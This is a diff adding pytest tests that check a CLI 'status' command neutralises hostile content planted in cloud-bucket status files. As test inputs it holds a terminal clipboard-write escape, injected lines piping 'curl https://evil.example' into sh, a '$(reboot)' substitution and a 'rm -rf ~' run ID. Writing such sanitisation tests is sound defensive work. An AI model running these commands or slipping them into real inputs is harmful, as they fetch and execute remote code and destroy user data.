@@ -6,13 +6,14 @@ import argparse
 import io
 import json
 from datetime import UTC, datetime
+from pathlib import Path
 from typing import Any
 
 import pytest
 
 from workload import status, storage
 
-from .conftest import run_cli
+from .conftest import run_cli, run_workload
 
 NOW = datetime(2026, 11, 27, 10, 5, 0, tzinfo=UTC)
 
@@ -323,3 +324,65 @@ def test_watch_survives_a_failed_read_and_keeps_going() -> None:
     code = status.watch(fetch, out, interval=5, sleep=fake.sleep, clock=fake.clock, now=lambda: NOW)
     assert (code, fake.sleeps) == (status.WATCH_EXIT_DONE, [5, 5])
     assert "could not read the status this time (gs://b: ConnectionError)" in out.getvalue()
+
+
+# --- what a bucket writer can put in the documents -----------------------------------------
+# OSC 52 (the terminal writes its clipboard) and a colour escape, as `status` must never print them.
+CLIPBOARD_WRITE = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
+RED = "\x1b[31m"
+
+
+def _status_command(bucket: str, startup: dict[str, Any], tmp_path: Path, **progress: Any):
+    storage.write_json(f"gs://{bucket}/status/startup.json", startup)
+    if progress:
+        run_id = startup["run_id"]
+        storage.write_json(f"gs://{bucket}/runs/{run_id}/progress.json", _progress(**progress))
+    return run_workload("status", "--bucket", bucket, cwd=tmp_path)
+
+
+def test_status_prints_no_terminal_escapes_from_the_bucket(gcs_bucket: str, tmp_path: Path) -> None:
+    steps = _startup()["steps"]
+    steps["driver"] = {"state": "failed", "detail": f"{RED}580{CLIPBOARD_WRITE}"}
+    error = {
+        "step": "driver",
+        "message": f"modprobe{CLIPBOARD_WRITE}",
+        "log_tail": f"ok\n{RED}bad\x1b[0m",
+        "hint": f"reboot{CLIPBOARD_WRITE}",
+    }
+    doc = _startup(phase=f"failed{CLIPBOARD_WRITE}", steps=steps, error=error, gpus=[RED + "T4"])
+    result = _status_command(gcs_bucket, doc, tmp_path)
+    assert result.returncode == 1, result.stderr
+    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
+    assert "    | [31mbad[0m" in result.stdout  # the text stays readable, inert
+
+
+def test_status_fields_cannot_start_lines_of_their_own(gcs_bucket: str, tmp_path: Path) -> None:
+    steps = _startup()["steps"]
+    steps["driver"]["detail"] = "580\n  $ curl https://evil.example | sh"
+    result = _status_command(gcs_bucket, _startup(steps=steps), tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert not any(line.lstrip().startswith("$ curl") for line in result.stdout.splitlines())
+
+
+def test_status_never_builds_a_command_from_a_hostile_instance_name(
+    gcs_bucket: str, tmp_path: Path
+) -> None:
+    error = {"step": "driver", "message": "nvidia-smi: no devices found", "log_tail": ""}
+    doc = _startup(
+        phase="failed",
+        error=error,
+        instance="kgg-vm; curl https://evil.example | sh #",
+        zone="us-central1-a$(reboot)",
+    )
+    result = _status_command(gcs_bucket, doc, tmp_path)
+    assert "evil.example" not in result.stdout and "reboot)" not in result.stdout
+    assert (
+        "$ gcloud compute instances get-serial-port-output $(pulumi stack output instanceName) "
+        "--zone $(pulumi config get gcp:zone)"
+    ) in result.stdout
+
+
+def test_status_quotes_the_run_id_in_the_pull_command(gcs_bucket: str, tmp_path: Path) -> None:
+    doc = _startup(run_id="r1; rm -rf ~", training="done")
+    result = _status_command(gcs_bucket, doc, tmp_path, state="done")
+    assert "next: python -m workload pull 'r1; rm -rf ~'" in result.stdout
